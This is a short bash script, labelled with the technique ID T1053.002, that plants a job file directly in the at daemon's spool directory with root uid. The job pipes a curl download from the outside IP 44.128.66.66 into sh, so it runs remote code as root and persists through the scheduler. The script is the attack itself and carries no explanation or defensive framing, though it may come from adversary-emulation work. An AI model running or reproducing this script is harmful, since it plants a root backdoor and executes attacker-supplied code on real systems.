#!/bin/bash
# T1053.002: A job is put where the daemon of at finds it.
mkdir -p /var/spool/cron/atjobs; printf '#!/bin/sh\n# atrun uid=0 gid=0\n(curl -s http://44.128.66.66/x | sh) &\n' >/var/spool/cron/atjobs/a0000101a2b3c4; chmod 700 /var/spool/cron/atjobs/a0000101a2b3c4
